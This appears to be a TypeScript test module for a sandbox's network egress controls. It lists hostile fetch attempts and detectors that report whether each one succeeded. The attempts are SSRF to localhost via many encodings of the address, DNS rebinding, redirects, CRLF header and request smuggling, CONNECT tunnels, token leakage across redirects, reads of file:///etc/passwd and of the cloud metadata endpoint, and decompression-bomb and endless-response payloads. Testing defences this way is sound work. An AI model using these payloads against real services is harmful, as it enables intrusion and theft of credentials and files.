import { type Attempt, type Seen, told } from './attempt.ts'

/** The one way out, used for what it is not for. Whatever stands for the internet is the attacker's. */

/** A service that only this machine may reach was reached. */
function reachedInside({ scene }: Seen): string | null {
  const reached = scene.takeHeard()
  return reached.length > 0 ? `${reached.join(', ')} heard from it` : null
}

const inside: [string, string][] = [
  ['by its address', `'http://127.0.0.1:' + PORT`],
  ['by a decimal address', `'http://2130706433:' + PORT`],
  ['by a hexadecimal address', `'http://0x7f000001:' + PORT`],
  ['by an octal address', `'http://0177.0.0.1:' + PORT`],
  ['by a short address', `'http://127.1:' + PORT`],
  ['by the address of nobody', `'http://0.0.0.0:' + PORT`],
  ['by IPv6', `'http://[::1]:' + PORT`],
  ['by a mapped address', `'http://[::ffff:127.0.0.1]:' + PORT`],
  ['by a mapped address in hexadecimal', `'http://[::ffff:7f00:1]:' + PORT`],
  ['by NAT64', `'http://[64:ff9b::7f00:1]:' + PORT`],
  ['by the name of this machine', `'http://localhost:' + PORT`],
  ['by that name with a dot', `'http://localhost.:' + PORT`],
  ['by wide letters', `'http://ⓛocalhost:' + PORT`],
  ['by a name that means it', `'http://inside.test:' + PORT`],
  ['by a name that means it too', `'http://both.test:' + PORT`],
  ['by a name that changes its mind', `'http://rebind.test:' + PORT`],
  ['by a redirect', `ATTACKER + '/redirect?to=http://127.0.0.1:' + PORT`],
  ['by a redirect to a name', `ATTACKER + '/redirect?to=http://inside.test:' + PORT`],
  [
    'by many redirects',
    `ATTACKER + '/redirect?to=' + encodeURIComponent(ATTACKER + '/redirect?to=http://127.0.0.1:' + PORT)`,
  ],
  ['by credentials in the URL', `'http://attacker.test@127.0.0.1:' + PORT`],
  ['by a fragment of the URL', `'http://127.0.0.1:' + PORT + '#@attacker.test'`],
  ['by a backslash', `'http://127.0.0.1:' + PORT + '\\\\@attacker.test'`],
]

const GET = `{ method: 'GET', headers: [], body: null, redirect: 'follow' }`

const raw: [string, string, Attempt['effect']][] = [
  [
    'inject a header',
    `{ ...${GET}, url: ATTACKER + '/echo', headers: [['x', 'a\\r\\nsmuggled: 1']] }`,
    smuggled,
  ],
  [
    'inject a header by its name',
    `{ ...${GET}, url: ATTACKER + '/echo', headers: [['x: a\\r\\nsmuggled', '1']] }`,
    smuggled,
  ],
  [
    'inject a request by the method',
    `{ ...${GET}, url: ATTACKER + '/echo', method: 'GET /smuggled HTTP/1.1\\r\\nsmuggled: 1\\r\\nx: ' }`,
    smuggled,
  ],
  [
    'inject a request by the URL',
    `{ ...${GET}, url: ATTACKER + '/echo HTTP/1.1\\r\\nsmuggled: 1\\r\\nx: ' }`,
    smuggled,
  ],
  [
    'smuggle by the length',
    `{ ...${GET}, method: 'POST', url: ATTACKER + '/echo', headers: [['content-length', '0'],
      ['transfer-encoding', 'chunked']],
      body: Buffer.from('0\\r\\n\\r\\nGET / HTTP/1.1\\r\\nsmuggled: 1\\r\\n\\r\\n').toString('base64') }`,
    smuggled,
  ],
  [
    'call the host by another name',
    `{ ...${GET}, url: ATTACKER + '/echo', headers: [['host', 'inside.test']] }`,
    told(/"host":"inside\.test/),
  ],
  ['open a tunnel', `{ ...${GET}, method: 'CONNECT', url: ATTACKER }`, tunnelled],
  [
    'change the protocol',
    `{ ...${GET}, url: ATTACKER + '/echo', headers: [['connection', 'upgrade'], ['upgrade', 'websocket']] }`,
    told(/"upgrade":"websocket/),
  ],
  [
    'carry a token to another host',
    `{ ...${GET}, url: ATTACKER + '/redirect?to=' + OTHER + '/echo', headers: [['Authorization',
      'token-of-mine'], ['Cookie', 'token-of-mine']] }`,
    told(/token-of-mine/),
  ],
  ['read a file by its URL', `{ ...${GET}, url: 'file:///etc/passwd' }`, told(/root:|cm9vd/)],
  [
    'read a file by a redirect',
    `{ ...${GET}, url: ATTACKER + '/redirect?to=file:///etc/passwd' }`,
    told(/root:|cm9vd/),
  ],
  [
    'reach the metadata service',
    `{ ...${GET}, url: 'http://169.254.169.254/latest/meta-data/' }`,
    told(/GOT \{"type":"fetched/),
  ],
  ['reach the server itself', `{ ...${GET}, url: 'http://server.test/' }`, told(/GOT \{"type":"fetched/)],
  [
    'reach a port that is not of the web',
    `{ ...${GET}, url: 'http://public.test:22/' }`,
    told(/GOT \{"type":"fetched/),
  ],
  ['fetch more than it may', `{ ...${GET}, url: ATTACKER + '/huge' }`, told(/GOT \{"type":"fetched/)],
  ['fetch what never ends', `{ ...${GET}, url: ATTACKER + '/endless' }`, told(/GOT \{"type":"fetched/)],
  [
    'fetch what comes a byte at a time',
    `{ ...${GET}, url: ATTACKER + '/slow' }`,
    told(/GOT \{"type":"fetched/),
  ],
  ['fetch what never answers', `{ ...${GET}, url: ATTACKER + '/never' }`, told(/GOT \{"type":"fetched/)],
  ['unpack a bomb', `{ ...${GET}, url: ATTACKER + '/bomb' }`, told(/GOT \{"type":"fetched/)],
  ['follow a redirect without end', `{ ...${GET}, url: ATTACKER + '/loop' }`, told(/GOT \{"type":"fetched/)],
  [
    'fetch a body whose headers do not end',
    `{ ...${GET}, url: ATTACKER + '/headers' }`,
    told(/GOT \{"type":"fetched/),
  ],
]

export const egressAttempts: readonly Attempt[] = [
  ...inside.map(([how, url]) => ({
    name: `reach a service of this machine ${how}`,
    code: fetching(`{ ...${GET}, url: ${url} }`),
    effect: reachedInside,
  })),
  ...raw.map(([name, request, effect]) => ({ name, code: fetching(request), effect })),
]

function smuggled({ scene, said }: Seen): string | null {
  return scene.takeSmuggled() || /"smuggled":"1"/.test(said) ? 'another request came out' : null
}

function tunnelled({ scene, said }: Seen): string | null {
  return scene.takeSmuggled() || said.startsWith('GOT {"type":"fetched') ? 'a tunnel was opened' : null
}

/** Past the checks of the author's `fetch`: the frame is the attacker's own. */
function fetching(request: string): Attempt['code'] {
  return ({ insidePort, attackerUrl, otherUrl }) =>
    `const PORT = ${insidePort}, ATTACKER = '${attackerUrl}', OTHER = '${otherUrl}'
     let rest = ''
     const answer = new Promise((done) => wire.on('data', function listen(chunk) {
       rest += chunk
       const lines = rest.split('\\n')
       rest = lines.pop()
       for (const frame of lines.map((line) => JSON.parse(line))) {
         if (frame.fetch !== 77) continue
         wire.off('data', listen)
         done(frame)
       }
     }))
     wire.write(JSON.stringify({ type: 'fetch', fetch: 77, turn, ...${request} }) + '\\n')
     const frame = await answer
     if (frame.type === 'fetch_failed') throw new Error(frame.message)
     return { ...frame, body: Buffer.from(frame.body, 'base64').toString().slice(0, 2000) }`
}
